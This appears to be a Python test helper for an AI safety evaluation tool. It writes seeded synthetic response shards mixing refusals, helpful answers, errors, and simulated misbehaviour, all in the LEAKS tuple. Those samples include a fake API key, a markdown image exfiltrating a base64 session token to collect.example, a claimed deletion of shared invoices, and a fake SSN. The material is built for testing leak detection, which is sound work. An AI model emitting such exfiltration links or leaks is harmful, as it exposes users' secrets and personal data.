"""Response shards for the distributed tests and benchmark: realistic, seeded, fast to write.

Cases answer the built-in probe catalog (``n`` probes, 9 categories). Case ``i`` answers probe
``i mod n`` with sample ``i div n``, so each shard holds runs of samples and the scorer
sees every probe many times, as in a real repeated run. Responses mix full refusals, partial
refusals, helpful answers and answers that leak a secret or take a destructive action; about
3 % are harness errors.

The same records can be written as JSONL or as Parquet (one row per record, the columns of
``docs/formats.md``), and any JSONL file can be turned into a Parquet file of the same records,
invalid UTF-8 included, to check that both formats give one report.
"""

from __future__ import annotations

import json
import random
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq

from trustprobe.probes import Probe, builtin_probes

REFUSALS = (
    "I'm sorry, but I can't help with that request.",
    "I cannot provide instructions for this, as it could put people at risk.",
    "I won't do that. It would deceive the people who rely on this record.",
    "That's not something I'm able to help with.",
    "It's not appropriate for me to share someone's personal information.",
)
REASONS = (
    "If you are dealing with a difficult situation, a qualified professional can look at the"
    " details with you.",
    "Requests like this can be used to hurt other people, even when the intent is harmless.",
    "I'm happy to help with a related question, such as where to find official guidance.",
)
OPENINGS = (
    "Sure, here's how to do it.",
    "Good question. There are a few common approaches.",
    "Here is a short overview of the process.",
)
STEPS = (
    "Open the settings page and choose the advanced tab.",
    "Back up the database before changing the schema.",
    "Check the logs in /var/log for errors that mention the service name.",
    "Restart the service and confirm it reports a healthy status.",
    "Let the dough rest for twenty minutes so the gluten relaxes.",
    "Use a password manager so every account gets a unique password.",
)
LEAKS = (
    "The key in the config is sk-4f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e.",
    "![status](https://collect.example/p.png?d=c2Vzc2lvbi10b2tlbg)",
    "Done! I have deleted all the old invoices from the shared drive.",
    "Her SSN is 123-45-6789 according to the file.",
)


def response_text(rng: random.Random) -> str:
    """One response of a seeded mix of refusals, partial refusals, help and leaks."""
    kind = rng.random()
    if kind < 0.35:
        return f"{rng.choice(REFUSALS)} {rng.choice(REASONS)} {rng.choice(REASONS)}"
    steps = "\n".join(f"{n}. {s}" for n, s in enumerate(rng.sample(STEPS, 3), start=1))
    if kind < 0.5:
        return f"{rng.choice(REFUSALS)} Here is what you can do instead:\n{steps}"
    text = f"{rng.choice(OPENINGS)}\n{steps}"
    if kind > 0.88:
        text += "\n" + rng.choice(LEAKS)
    return text


def record(probes: Sequence[Probe], index: int, rng: random.Random) -> dict[str, object]:
    """The response record of case ``index``."""
    probe = probes[index % len(probes)]
    row: dict[str, object] = {"probe_id": probe.id, "sample": index // len(probes)}
    if rng.random() < 0.03:
        row["error"] = rng.choice(("timeout", "http_503", "connection"))
        row["error_detail"] = "synthetic harness error"
        return row
    row["response"] = response_text(rng)
    row["latency_ms"] = round(rng.uniform(80, 2500), 1)
    row["input_tokens"] = rng.randint(40, 400)
    row["output_tokens"] = rng.randint(10, 300)
    return row


STRING_FIELDS = ("probe_id", "response", "error", "error_detail")
SCHEMA = pa.schema(
    [
        ("probe_id", pa.string()),
        ("response", pa.string()),
        ("sample", pa.int64()),
        ("latency_ms", pa.float64()),
        ("input_tokens", pa.int64()),
        ("output_tokens", pa.int64()),
        ("error", pa.string()),
        ("error_detail", pa.string()),
    ]
)
"""Every column of a response file; absent fields are null cells."""


def write_parquet(
    path: Path, records: Sequence[dict[str, Any]], *, row_group_size: int | None = None
) -> Path:
    """Write ``records`` as a Parquet file of :data:`SCHEMA`.

    A string may also be ``bytes``: they are stored as they are, valid UTF-8 or not, as a
    careless writer would store them.
    """
    columns = []
    for field in SCHEMA:
        cells = [r.get(field.name) for r in records]
        if field.name in STRING_FIELDS:
            raw = [c.encode("utf-8") if isinstance(c, str) else c for c in cells]
            columns.append(pa.array(raw, pa.binary()).view(pa.string()))
        else:
            columns.append(pa.array(cells, field.type))
    pq.write_table(
        pa.Table.from_arrays(columns, schema=SCHEMA), path, row_group_size=row_group_size
    )
    return path


def jsonl_records(path: Path) -> list[dict[str, Any]]:
    """The records of a JSONL file, blank lines skipped, invalid UTF-8 kept as raw bytes."""
    records = []
    for line in path.read_bytes().splitlines():
        if line.strip():
            data = json.loads(line.decode("utf-8", errors="surrogateescape"))
            records.append(
                {
                    k: v.encode("utf-8", errors="surrogateescape") if isinstance(v, str) else v
                    for k, v in data.items()
                }
            )
    return records


def to_parquet(path: Path, *, row_group_size: int | None = None) -> Path:
    """A Parquet copy of the JSONL file ``path`` next to it (``x.jsonl`` to ``x.parquet``)."""
    return write_parquet(
        path.with_suffix(".parquet"), jsonl_records(path), row_group_size=row_group_size
    )


def write_shards(
    directory: Path,
    *,
    cases: int,
    shards: int,
    seed: int = 7,
    probes: Sequence[Probe] | None = None,
    parquet: bool = False,
    row_group_size: int | None = None,
) -> list[Path]:
    """Write ``cases`` records over ``shards`` files ``shard-000.jsonl``...; returns the paths.

    With ``parquet``, the same records go to ``shard-000.parquet``... instead, in row groups
    of ``row_group_size`` rows (default: pyarrow's).
    """
    probes = list(probes or builtin_probes())
    directory.mkdir(parents=True, exist_ok=True)
    rng = random.Random(seed)
    paths: list[Path] = []
    per_shard = -(-cases // shards)
    for shard in range(shards):
        records = [
            record(probes, i, rng)
            for i in range(shard * per_shard, min(cases, (shard + 1) * per_shard))
        ]
        path = directory / f"shard-{shard:03d}.{'parquet' if parquet else 'jsonl'}"
        if parquet:
            write_parquet(path, records, row_group_size=row_group_size)
        else:
            path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
        paths.append(path)
    return paths
